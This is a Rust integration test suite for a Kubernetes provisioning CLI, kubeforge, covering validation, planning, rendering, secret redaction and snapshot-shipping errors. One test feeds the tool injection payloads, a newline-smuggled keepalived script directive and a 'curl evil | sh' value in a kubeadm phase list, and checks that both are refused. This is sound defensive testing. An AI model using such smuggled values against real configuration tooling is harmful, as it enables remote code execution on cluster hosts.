//! The binary as a user runs it: validate, plan and render on every example and on bad
//! input, text and JSON output, exit codes, secrets never printed.

use assert_cmd::Command;
use predicates::prelude::*;
use std::path::{Path, PathBuf};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn kubeforge() -> Command {
    let mut c = Command::cargo_bin("kubeforge").unwrap();
    c.current_dir(root());
    c
}

fn examples() -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(root().join("examples"))
        .unwrap()
        .map(|e| format!("examples/{}", e.unwrap().file_name().to_string_lossy()))
        .filter(|n| n.ends_with(".yaml"))
        .collect();
    v.sort();
    v
}

/// A kubeadm bootstrap token anywhere in `text`: six and sixteen of [a-z0-9].
fn has_token(text: &str) -> bool {
    let b = text.as_bytes();
    let ok = |c: u8| c.is_ascii_lowercase() || c.is_ascii_digit();
    (6..b.len().saturating_sub(16)).any(|i| {
        b[i] == b'.'
            && b[i - 6..i].iter().all(|c| ok(*c))
            && (i < 7 || !ok(b[i - 7]))
            && b[i + 1..i + 17].iter().all(|c| ok(*c))
            && b.get(i + 17).is_none_or(|c| !ok(*c))
    })
}

#[test]
fn token_detector_detects_tokens() {
    assert!(has_token("token: \"abcdef.0123456789abcdef\"\n"));
    assert!(!has_token(
        "token: \"<redacted>\" k8s.gcr.io/pause:3.2 10.244.0.0"
    ));
}

#[test]
fn validate_accepts_every_example() {
    for ex in examples() {
        kubeforge()
            .args(["validate", "-f", &ex])
            .assert()
            .success()
            .stdout(predicate::str::contains("is valid"));
    }
}

#[test]
fn validate_reports_problems_with_positions_and_exit_code_2() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("bad.yaml");
    std::fs::write(
        &f,
        "apiVersion: kubeforge.dev/v1alpha1\nkind: Cluster\nmetadata: {name: x}\nspec:\n  kubernetesVersion: v1.30.1\n  provider: {docker: {}}\n  nodePools: {controlPlane: {count: 2}}\n  networking: {podSubnet: 10.0.0.0/33}\n",
    )
    .unwrap();
    let out = kubeforge()
        .args(["validate", "-f"])
        .arg(&f)
        .assert()
        .code(2)
        .get_output()
        .clone();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("error: 2 problems in the cluster definition:"),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "{}:7:30: spec.nodePools.controlPlane.count: an even number",
            f.display()
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "{}:8:16: spec.networking.podSubnet: `10.0.0.0/33` is not a CIDR",
            f.display()
        )),
        "{stderr}"
    );
    // JSON for machines: the same errors as data.
    let out = kubeforge()
        .args(["validate", "-o", "json", "-f"])
        .arg(&f)
        .assert()
        .code(2)
        .get_output()
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["valid"], false);
    assert_eq!(v["errors"].as_array().unwrap().len(), 2);
    // In file order.
    assert_eq!(v["errors"][0]["line"], 7);
    assert_eq!(v["errors"][0]["field"], "spec.nodePools.controlPlane.count");
    assert_eq!(v["errors"][1]["line"], 8);
}

#[test]
fn a_missing_cluster_file_is_named() {
    kubeforge()
        .args(["plan", "-f", "no/such/cluster.yaml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "error: no/such/cluster.yaml: cannot read the cluster file: No such file or directory",
        ));
}

#[test]
fn warnings_go_to_stderr_and_do_not_fail() {
    kubeforge()
        .args(["validate", "-f", "examples/ingress-nginx.yaml"])
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "warning: examples/ingress-nginx.yaml:19:7: spec.addons.ingress.controller: ingress-nginx was retired upstream in March 2026",
        ));
}

#[test]
fn plan_shows_machines_files_and_commands_by_phase() {
    let out = kubeforge()
        .args(["plan", "--offline", "-f", "examples/local.yaml"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let text = String::from_utf8(out).unwrap();
    for want in [
        "Plan for cluster `local`: Kubernetes v1.20.2 (kubeadm.k8s.io/v1beta2), provider docker",
        "Control-plane endpoint 172.29.10.254:6443 (keepalived VIP on local-lb-1, local-lb-2)",
        "Machines (7):",
        "local-cp-1      172.29.10.10     control-plane   ensure",
        "Phase 1/13 provision:",
        "Phase 4/13 load-balancer:",
        "Phase 7/13 join-control-plane: join the other control-plane nodes one at a time, health-gated [one at a time on 2 hosts]",
        "    write /etc/haproxy/haproxy.cfg (0644,",
        "    write /etc/kubeforge/kubeadm-init.yaml (0600,",
        "holds secrets",
        "    run   /usr/local/bin/kubeadm init --config /etc/kubeforge/kubeadm-init.yaml --upload-certs --experimental-patches /etc/kubeforge/patches --skip-phases=preflight,addon/coredns$(ls /var/lib/kubeforge/applied/etcd-restore-* >/dev/null 2>&1 && echo ' --ignore-preflight-errors=DirAvailable--var-lib-etcd') (detached: survives a lost connection; log in /var/log/kubeforge/kubeforge-kubeadm-init.log)  (skip if kubeadm init finished here before",
        "    write /etc/systemd/system/kubeforge-podnet.service (0644,",
        "    write /usr/local/lib/kubeforge/podnet.sh (0755,",
        "Phase 12/13 etcd-backup:",
        "    write /usr/local/lib/kubeforge/etcd-snapshot.sh (0755,",
        "Phase 13/13 addons:",
        // A changed kubelet unit restarts a running kubelet (a fresh node's is started
        // by kubeadm).
        "systemctl enable kubelet && systemctl try-restart kubelet",
    ] {
        assert!(text.contains(want), "missing {want:?} in:\n{text}");
    }
    assert!(!has_token(&text));
}

#[test]
fn plan_never_prints_secrets() {
    for ex in examples() {
        for args in [
            vec!["plan", "--offline", "--show-content"],
            vec!["plan", "--offline", "-o", "json"],
        ] {
            let out = kubeforge()
                .args(&args)
                .args(["-f", &ex])
                .assert()
                .success()
                .get_output()
                .clone();
            let all = format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
            assert!(!has_token(&all), "{ex} {args:?} printed a bootstrap token");
            assert!(
                all.contains("<redacted>"),
                "{ex} {args:?}: secrets are shown redacted"
            );
            // The certificate key is 64 hex characters.
            let hex_run = all.split(|c: char| !c.is_ascii_hexdigit()).any(|w| {
                w.len() == 64
                    && !all.contains(&format!("sha256 {w}"))
                    && !all.contains(&format!("\"sha256\": \"{w}\""))
            });
            assert!(!hex_run, "{ex} {args:?} printed a certificate key");
        }
    }
}

#[test]
fn plan_json_has_every_phase_host_and_file() {
    let out = kubeforge()
        .args([
            "plan",
            "--offline",
            "-o",
            "json",
            "-f",
            "examples/baremetal.yaml",
        ])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["cluster"], "prod");
    assert_eq!(v["kubeadmApiVersion"], "kubeadm.k8s.io/v1beta4");
    assert_eq!(v["controlPlaneEndpoint"], "10.10.0.10:6443");
    assert_eq!(v["machines"].as_array().unwrap().len(), 9);
    let phases: Vec<&str> = v["phases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        phases,
        [
            "provision",
            "connect",
            "prepare-hosts",
            "load-balancer",
            "remove-nodes",
            "init-control-plane",
            "join-control-plane",
            "join-workers",
            "kubeconfig",
            "cni",
            "wait-ready",
            "etcd-backup",
            "addons"
        ]
    );
    let lb = &v["phases"][3];
    assert_eq!(lb["hosts"].as_array().unwrap().len(), 3);
    let files: Vec<&str> = lb["hosts"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        files,
        [
            "/etc/haproxy/haproxy.cfg",
            "/etc/keepalived/keepalived.conf",
            "/etc/keepalived/check_haproxy.sh"
        ]
    );
    let join = &v["phases"][6];
    assert_eq!(join["strategy"], "serial");
    assert_eq!(join["hosts"][0]["host"], "master-2");
    let addons: Vec<&str> = v["phases"][12]["operator"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["action"].as_str().unwrap())
        .collect();
    assert!(
        addons
            .iter()
            .any(|a| a.contains("BGPPeer 10.10.0.1 (ASN 64513, local ASN 64512)")),
        "{addons:?}"
    );
}

#[test]
fn plan_needs_no_network() {
    // In a network namespace of its own (no interface but a down loopback), plan still
    // works: it reads files and prints, nothing else.
    let unshare = Path::new("/usr/bin/unshare");
    assert!(
        unshare.exists(),
        "util-linux unshare is needed for this test"
    );
    let bin = assert_cmd::cargo::cargo_bin("kubeforge");
    let out = std::process::Command::new(unshare)
        .arg("--net")
        .arg(bin)
        .args(["plan", "-f", "examples/baremetal.yaml"])
        .current_dir(root())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("Phase 13/13 addons"));
}

#[test]
fn render_writes_every_file_under_host_and_remote_path() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    kubeforge()
        .args(["render", "-f", "examples/local.yaml", "--out"])
        .arg(&out)
        .assert()
        .success()
        .stdout(predicate::str::contains("files for 7 hosts written to"));
    for (host, path) in [
        ("local-lb-1", "etc/haproxy/haproxy.cfg"),
        ("local-lb-2", "etc/keepalived/keepalived.conf"),
        ("local-cp-1", "etc/kubeforge/kubeadm-init.yaml"),
        ("local-cp-2", "etc/kubeforge/kubeadm-join.yaml"),
        ("local-worker-2", "etc/containerd/config.toml"),
        (
            "local-worker-1",
            "etc/kubeforge/podnet/10-kubeforge.conflist.in",
        ),
        (
            "local-cp-3",
            "etc/systemd/system/kubelet.service.d/10-kubeadm.conf",
        ),
    ] {
        let p = out.join(host).join(path);
        assert!(p.is_file(), "{} missing", p.display());
    }
    let init =
        std::fs::read_to_string(out.join("local-cp-1/etc/kubeforge/kubeadm-init.yaml")).unwrap();
    assert!(init.contains("token: \"<redacted>\""), "{init}");
    assert!(!has_token(&init));
    // No LB files on Kubernetes nodes, no kubelet on LB nodes.
    assert!(!out.join("local-cp-1/etc/haproxy").exists());
    assert!(!out.join("local-lb-1/etc/containerd").exists());
}

#[test]
fn render_json_lists_what_it_wrote() {
    let dir = tempfile::tempdir().unwrap();
    let out = kubeforge()
        .args([
            "render",
            "-o",
            "json",
            "-f",
            "examples/rook-ceph.yaml",
            "--out",
        ])
        .arg(dir.path())
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let list = v.as_array().unwrap();
    assert!(list.len() > 20);
    for w in list {
        assert!(Path::new(w["local_path"].as_str().unwrap()).is_file());
    }
    // HAProxy + keepalived on the three control-plane nodes (no LB nodes here).
    let lb: Vec<&str> = list
        .iter()
        .filter(|w| w["remote_path"] == "/etc/haproxy/haproxy.cfg")
        .map(|w| w["host"].as_str().unwrap())
        .collect();
    assert_eq!(lb, ["ceph-cp-1", "ceph-cp-2", "ceph-cp-3"]);
}

#[test]
fn render_into_an_unwritable_place_names_it() {
    let dir = tempfile::tempdir().unwrap();
    let blocker = dir.path().join("file");
    std::fs::write(&blocker, "not a directory").unwrap();
    kubeforge()
        .args(["render", "-f", "examples/local.yaml", "--out"])
        .arg(&blocker)
        .assert()
        .code(1)
        .stderr(predicate::str::contains(format!(
            "error: cannot write {}",
            blocker.display()
        )));
}

#[test]
fn a_static_inventory_can_be_ansible_ini_or_yaml_or_kubeforge_yaml() {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::read_to_string(root().join("examples/baremetal.yaml")).unwrap();
    let mut plans = Vec::new();
    for inv in ["baremetal.ini", "baremetal-ansible.yaml", "baremetal.yaml"] {
        let text = base.replace(
            "../inventory/baremetal.ini",
            &root().join("inventory").join(inv).display().to_string(),
        );
        let f = dir.path().join(format!("c-{inv}.yaml"));
        std::fs::write(&f, text).unwrap();
        let out = kubeforge()
            .args(["plan", "--offline", "-o", "json", "-f"])
            .arg(&f)
            .assert()
            .success()
            .get_output()
            .stdout
            .clone();
        let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
        plans.push(v["machines"].clone());
    }
    assert_eq!(
        plans[0], plans[1],
        "INI and Ansible YAML give the same machines"
    );
    assert_eq!(
        plans[0], plans[2],
        "INI and kubeforge YAML give the same machines"
    );
}

/// The two injections of issue 15 (item 2) as a user would write them: `validate` and
/// `plan --offline -o json` refuse both with their positions (exit 2) and print no
/// plan; an oversized file is refused before it is read (item 3).
#[test]
fn hostile_cluster_files_are_refused_by_validate_and_plan() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("evil.yaml");
    std::fs::write(
        &f,
        "apiVersion: kubeforge.dev/v1alpha1\nkind: Cluster\nmetadata: {name: x}\nspec:\n  kubernetesVersion: v1.20.2\n  provider: {docker: {}}\n  nodePools: {loadBalancers: {count: 2}}\n  loadBalancer:\n    interface: \"eth0\\n}\\nvrrp_script pwn {\\n    script /tmp/x\\n\"\n  kubeadm: {skipPhases: ['preflight; curl evil | sh']}\n",
    )
    .unwrap();
    for args in [vec!["validate"], vec!["plan", "--offline", "-o", "json"]] {
        let out = kubeforge()
            .args(&args)
            .arg("-f")
            .arg(&f)
            .assert()
            .code(2)
            .get_output()
            .clone();
        let stdout = String::from_utf8(out.stdout).unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        let all = format!("{stdout}{stderr}");
        assert!(
            all.contains(":9:5: spec.loadBalancer.interface: `eth0\\n}\\nvrrp_script pwn {\\n    script /tmp/x\\n` is not a network interface name"),
            "{args:?}: {all}"
        );
        assert!(
            all.contains(":10:26: spec.kubeadm.skipPhases[0]: `preflight; curl evil | sh` is not a phase of kubeadm init or join 1.20"),
            "{args:?}: {all}"
        );
        assert!(!all.contains("kubeadm init --config"), "no plan: {all}");
    }
    let big = dir.path().join("big.yaml");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    kubeforge()
        .args(["plan", "--offline", "-f"])
        .arg(&big)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "big.yaml: the cluster file is 1073741824 bytes, more than the 4194304 bytes (4 MiB) kubeforge reads",
        ));
}

/// `kubeforge node ship-snapshot` (what a control plane's timer runs): a store that does
/// not answer, a stream that is not one, a configuration that is not one: each a clear
/// error saying the snapshot stays on the node, and no secret of the configuration in it.
#[test]
fn shipping_a_snapshot_fails_clearly_and_keeps_it_on_the_node() {
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let recipient = kubeforge::state::Keyring::generate().0.recipient().unwrap();
    let config = serde_json::json!({
        "cluster": "c", "host": "cp-1", "url": "s3://b/p",
        "endpoint": format!("http://127.0.0.1:{port}"), "pathStyle": true, "allowHttp": true,
        "accessKeyId": "AKIDSHIP", "secretAccessKey": "ship-secret-never-shown",
        "recipient": recipient, "macKey": "11".repeat(32),
        "kubernetesVersion": "v1.20.2", "keep": 3,
    });
    std::fs::write(dir.path().join("ship.json"), config.to_string()).unwrap();
    let stream = dir.path().join("auto-cp-1-20261129T100000Z.stream");
    std::fs::write(&stream, b"{\"result\":{\"blob\":\"AAAA\"}}").unwrap();
    let run = |config: &str, stream: &std::path::Path| {
        let out = kubeforge()
            .args(["node", "ship-snapshot", "--config"])
            .arg(dir.path().join(config))
            .arg(stream)
            .timeout(std::time::Duration::from_secs(120))
            .output()
            .unwrap();
        assert!(!out.status.success());
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !all.contains("ship-secret-never-shown") && !all.contains(&"11".repeat(32)),
            "{all}"
        );
        all
    };
    let e = run("ship.json", &stream);
    assert!(
        e.contains("not shipped to s3://b/p") && e.contains("stays on this node"),
        "{e}"
    );
    let e = run("ship.json", &dir.path().join("notes.txt"));
    assert!(
        e.contains("is not a snapshot stream the timer wrote"),
        "{e}"
    );
    let e = run("missing.json", &stream);
    assert!(
        e.contains("cannot read") && e.contains("missing.json"),
        "{e}"
    );
}

#[test]
fn bench_bootstrap_refuses_bad_input_before_starting_anything() {
    kubeforge()
        .args(["bench", "bootstrap", "--control-planes", "2"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("--control-planes must be 1 or 3"));
    kubeforge()
        .args(["bench", "bootstrap", "--kubernetes-version", "../v1"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("is not a Kubernetes version"));
    let empty = tempfile::tempdir().unwrap();
    kubeforge()
        .args(["bench", "bootstrap", "--mirror"])
        .arg(empty.path())
        .assert()
        .failure()
        .stderr(
            predicate::str::contains("no v1.20.2 in it")
                .and(predicate::str::contains("scripts/up.sh")),
        );
    let mirror = tempfile::tempdir().unwrap();
    std::fs::create_dir(mirror.path().join("v1.20.2")).unwrap();
    kubeforge()
        .args([
            "bench",
            "bootstrap",
            "--subnet",
            "10.250.7.0/25",
            "--mirror",
        ])
        .arg(mirror.path())
        .assert()
        .failure()
        .stderr(predicate::str::contains("/24 or larger"));
}
